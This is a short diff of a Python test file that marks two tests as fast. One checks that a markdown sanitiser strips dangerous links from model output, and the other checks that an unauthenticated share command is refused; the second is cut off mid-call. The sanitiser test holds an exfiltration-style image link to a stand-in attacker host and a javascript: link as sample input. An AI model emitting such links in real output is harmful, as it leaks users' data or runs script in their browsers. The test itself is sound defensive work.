@@ -102,12 +102,14 @@ def test_saving_a_post_reaches_the_running_app(owner_app, owner) -> None:
     assert "ZORBLAX-9" not in sources
 
 
+@pytest.mark.fast
 def test_model_output_cannot_carry_images_or_script_links() -> None:
     evil = 'Hi ![x](https://attacker.example/?q=secret) <img src="https://a.example/p.png"> [c](javascript:alert(1))'
     out = safe_markdown(evil)
     assert "attacker.example" not in out and "<img" not in out and "javascript:" not in out
 
 
+@pytest.mark.fast
 def test_share_without_auth_refuses(tmp_path: Path) -> None:
     write(tmp_path / "posts", "a.md", "---\ntitle: A\n---\nText.\n")
     result = run_cli("serve", "--share", "--posts", str(tmp_path / "posts"), "--index", str(tmp_path / "ix"),
